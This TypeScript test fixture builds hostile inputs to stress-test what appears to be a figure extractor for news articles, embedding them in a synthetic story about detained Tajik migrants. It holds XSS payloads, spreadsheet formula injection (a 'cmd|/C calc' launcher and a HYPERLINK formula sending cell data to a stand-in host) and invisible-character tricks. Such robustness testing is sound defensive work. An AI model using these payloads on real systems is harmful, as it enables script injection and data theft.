/**
 * Texts that no reporter would write: what breaks readers of markup, spreadsheets, terminals and regular expressions. Adding
 * one is adding a row.
 */

/** What is put around the figures of an otherwise plain article, so that it gets into quotes, names, titles and tables. */
export const HOSTILE_PIECES: Readonly<Record<string, string>> = {
  script: '<script>document.title = "n297"</script>',
  'a script that never ends': '<script>297',
  'HTML with handlers':
    '<img src=x onerror="alert(297)"><iframe src="https://x.example/9"></iframe><b style="left:9px">',
  'HTML as entities': '&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;',
  'HTML as entities of entities': '&amp;lt;b onclick=1&amp;gt;',
  'HTML cut by what is invisible': '<\u200bscript>alert(9)</\u200bscript><\u00adb onclick="x">',
  'the way out of an attribute': '"><b onclick="alert(1)" x="',
  'the way out of an attribute in single quotes': "'><b onclick='alert(1)' x='",
  'the way out of an element': '</p></blockquote></article></script></style></title><b>--><b>]]><b>',
  'a link to a script': '[x](javascript:alert(1)) <a href="javascript:alert(1)">x</a>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of the languages that templates are written in.
  'a template': '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %> #{1}',
  'bidirectional controls': '\u202e\u2066\u2067\u202d\u2069\u202c\u200f',
  'zero-width characters': '\u200b\u200c\u200d\u2060\ufeff',
  'a byte order mark inside': '\ufeff',
  'NUL and other controls': '\u0000\u0001\u0007\u0008\u000b\u000c\u001b[31m\u001f\u007f\u0085\u009b',
  'no characters': '\ufffe\uffff\u{1ffff}\u{10ffff}',
  'a replacement character': '\ufffd',
  'halves of surrogate pairs as entities': '&#xD800;&#xDFFF;&#55296;',
  'CR LF and CR': '\r\n\r\r\n',
  'line separators': '\u2028\u2029\u0085',
  'tabs and carriage returns': '\t=1+1\r=1+1\t',
  'a formula': '=HYPERLINK("https://x.example/?"&A1,"9")',
  'a formula with a plus': "+cmd|' /C calc'!A0",
  'a formula with a minus': "-2+3+cmd|' /C calc'!A0",
  'a formula with an at sign': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a formula in a cell of its own': '",=1+1,"\n=1+1\n",\'=1+1',
  'escapes of spreadsheets': "_x000D_ _x003D_1+1 '=1 ''=1",
  'names of properties': ' constructor __proto__ toString hasOwnProperty ',
  'combining marks': `a${'\u0301\u0489'.repeat(200)}`,
  'mixed scripts': ' Таджикистан Душанбе Tаjik مهاجرين ٢٩٧ २९७ ２９７ 二百九十七 ½ Ⅷ ',
  emoji: '👩‍✈️🏳️‍🌈🇹🇯',
  'unclosed entities': '&#29 &#x &# &amp &lt &quot &;',
  'unclosed markup': '[297 ![9 <b 9 <!-- 9 **9 `9 <https://x.example/9 &#9',
  addresses: 'https://x.example/297?a=9&b=<9> a@b.example www.x.example/9',
  'a number that no number holds': `${'9'.repeat(400)} Tajik migrants were deported`,
  'a small number that no number holds': `0.${'0'.repeat(400)}1 percent of Tajikistan’s GDP`,
  'numbers that divide by nothing': '1/0 0/0 9 1/0 one in zero 0 0/0 Tajik migrants',
  'a word without end': 'x'.repeat(10_000),
  'a comment inside a number': '29<!-- 8 -->7<!---->0',
  'a long comment inside a number': `29<!--${'👩'.repeat(20_000)}-->7`,
};

/** Halves of surrogate pairs: no UTF-8 file holds them, but a document in JSON may. */
export const LONE_SURROGATES = '\ud800 \udc00\udfff \ud83d';

/** An article that states figures, with a hostile piece wherever one may be. `own` are words that no other has. */
export function hostileArticle(piece: string, own: string): string {
  return `Migrants Detained ${piece} In Moscow

By ${piece} Reporter

${piece} 297 Tajik migrants ${piece} were detained in Moscow ${piece}, the ${piece} Federal Migration Service said on 12 November 2011. ${piece}

“${piece} A Tajik court sentenced Vladimir Sadovnichy ${piece} to 8 1/2 years in jail ${piece},” said Ivan ${piece} Petrov.

Russia detained 2${piece}95 Tajik migrants. He said ${piece} that remittances make up about 40 percent of Tajikistan’s GDP.

${piece}

Russia detained 296 Tajik migrants on 12 November 2011.

${own}
`;
}

const repeated =
  (before: string, unit: string, after = '') =>
  (length: number) =>
    `${before}${unit.repeat(Math.max(1, length / unit.length))}${after}`;

const varied =
  (unit: (index: number) => string, before = '') =>
  (length: number) => {
    const units: string[] = [];
    for (let [index, left] = [0, length]; left > 0; index++) {
      const next = unit(index);
      units.push(next);
      left -= next.length;
    }
    return before + units.join('');
  };

/** Four capital letters that no smaller index has. */
const acronym = (index: number) =>
  [0, 1, 2, 3].map((place) => String.fromCharCode(65 + (Math.floor((index + 30_000) / 26 ** place) % 26))).join('');

const statement = (index: number, where: string) => `Moscow police detained ${index + 1} Tajik migrants in ${where}. `;

/** Texts of about so many characters, each of which grows in one nasty way. */
export const GROWING_TEXTS: Readonly<Record<string, (length: number) => string>> = {
  prose: repeated('', 'In Moscow 297 Tajik migrants were detained by the police on Friday. '),
  'one line without a full stop': repeated('', '297 Tajik migrants detained and '),
  'numbers alone': repeated('Tajik ', '12 345 '),
  'number words': repeated('Tajik ', 'two hundred and '),
  'halves and halves': repeated('Tajik one ', 'and a half '),
  'hundreds of hundreds': repeated('Tajik ', 'hundreds of '),
  'digits without end': repeated('Tajik ', '9', ' migrants'),
  'digits with commas': repeated('Tajik ', '1,2,3,men, ', ' migrants'),
  'thousands of thousands': repeated('Tajik ', '111,', ' migrants'),
  fractions: repeated('Tajik ', '1/2/3 of it '),
  'changes from and to': repeated('Tajik ', 'rising from about 300 to from '),
  dates: repeated('Tajik ', 'Nov. 8, 2011-11-08 08.11.2011 two weeks ago, 12 November 2011 '),
  'open brackets': repeated('Tajik 300 ', '['),
  'brackets in brackets': (length) => `Tajik 300 ${'['.repeat(length / 2)}${']'.repeat(length / 2)}`,
  'links in links': (length) => `Tajik 300 ${'['.repeat(length / 4)}${'](x)'.repeat(length / 4)}`,
  'open links': repeated('Tajik 300 ', '[a](b '),
  emphasis: repeated('Tajik 300 ', '**a_ *b '),
  'quotes in quotes': repeated('Tajik 300 ', '> '),
  'open comments': repeated('Tajik 300 ', '<!--'),
  'open tags': repeated('Tajik 300 ', '<a <script>'),
  'open entities': repeated('Tajik 300 ', '&#29 &amp &'),
  'a comment inside a number': repeated('Tajik 29<!--', 'x', '-->7 migrants were detained.'),
  spaces: repeated('Tajik 300', ' ', 'migrants detained'),
  'no-break spaces and tabs': repeated('Tajik 300', ' \u00a0\t', 'migrants detained'),
  hyphens: repeated('Tajik 300 ', '-'),
  'a rule of hyphens and spaces': repeated('Tajik 300 men.\n', '- '),
  'quotation marks': repeated('Tajik 300 ', ', “said ”"'),
  'capitalised words': repeated('According to ', 'Abc Def ', '300 Tajik migrants detained'),
  'of the of the': repeated('Tajik 300 ', 'of the '),
  'a word': repeated('Tajik 300 ', 'x'),
  'combining marks': repeated('Tajik 300 a', '\u0301'),
  'directional controls': repeated('Tajik 300 ', '\u202e9'),
  'mixed scripts': repeated('Tajik 300 ', 'Tаджик مها ٢٩٧ '),
  initials: repeated('Tajik 300 ', 'A. '),
  'names and ages': repeated('Tajik ', '300 Tajiks, 200 Uzbeks and Ivan Petrov, 54, '),
  addresses: repeated('Tajik 300 ', 'a@b.www.http://'),
  'telephone numbers': repeated('Tajik ', '+7 (495) 12-34 '),
  'short lines': repeated('Tajik\n', '300 men\n\n'),
  'lines of one letter': repeated('Tajik 300 men were detained in Moscow by the police.\n', 'a\n'),
  'items of a list': repeated('Tajik 300 men.\n\n', '1. 2011\n'),
  headings: repeated('', '# 2011 Tajik\n'),
  'one line of furniture': repeated('Tajik 300 men.\n\nFiled under ', '2011, 12 men '),
  articles: varied(
    (index) =>
      `### [12 November 2011](http://x.org/${index})\n\n# Title number ${index} here\n\nBy Ann Bee\n\n${statement(index, 'raids')}They were detained on Friday, the service said on the day after it.\n\nFiled under Borders\n\nCategory Archives: Tajikistan\n\n`,
  ),
  'copies of one article': repeated(
    '',
    '# Title here\n\nBy Ann Bee\n\nIn Moscow 300 Tajik migrants were detained by the police on Friday, the service said on that day.\n\nFiled under Borders\n\n',
  ),
  'statements that exclude each other': (length) =>
    ['raids', 'sweeps']
      .map((where) => `# ${where}\n\n${varied((index) => statement(index, where))(length / 2)}\n\n`)
      .join(''),
  'sentences and charges': varied(
    (index) =>
      `A Tajik court sentenced Vladimir Sadovnichy to ${(index % 9) + 1} years for smuggling number ${index}. `,
  ),
  'acronyms written out': varied(
    (index) => `The Abc (${acronym(index)}) met. The ${acronym(index)} said 297 Tajik migrants were detained. `,
  ),
};
